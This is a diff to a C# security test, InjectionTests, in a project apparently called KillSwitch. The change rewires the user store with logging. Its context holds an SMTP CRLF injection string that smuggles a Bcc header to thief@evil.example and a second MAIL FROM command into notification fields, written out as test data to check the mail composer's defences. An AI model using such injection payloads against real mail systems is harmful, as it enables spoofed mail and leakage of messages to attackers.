@@ -5,6 +5,7 @@ using KillSwitch.Local.Tests.Api.Support;
 using KillSwitch.Local.Tests.Mail;
 using KillSwitch.Local.Tests.Support;
 using KillSwitch.Tests;
+using Microsoft.Extensions.Logging.Abstractions;
 
 namespace KillSwitch.Local.Tests.Security;
 
@@ -17,7 +18,7 @@ public sealed class InjectionTests
         const string Attack = "x\r\nBcc: thief@evil.example\r\n\r\nbody\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n";
         await using var server = new SmtpListener();
         using var folder = new TempFolder();
-        var users = new LocalUsers(folder);
+        var users = new MailUsers(new LocalUsers(folder), TimeProvider.System, NullLogger<MailUsers>.Instance);
         var settings = new SmtpSettings { Host = "127.0.0.1", Port = server.Port, From = "killswitch@example.com" };
         var attack = Notifications.Killed(id: Attack, subject: Attack) with { Body = Attack, IncidentId = Attack };
         var mail = new MailComposer(users, () => new Uri("http://127.0.0.1:8090")).Compose(attack);
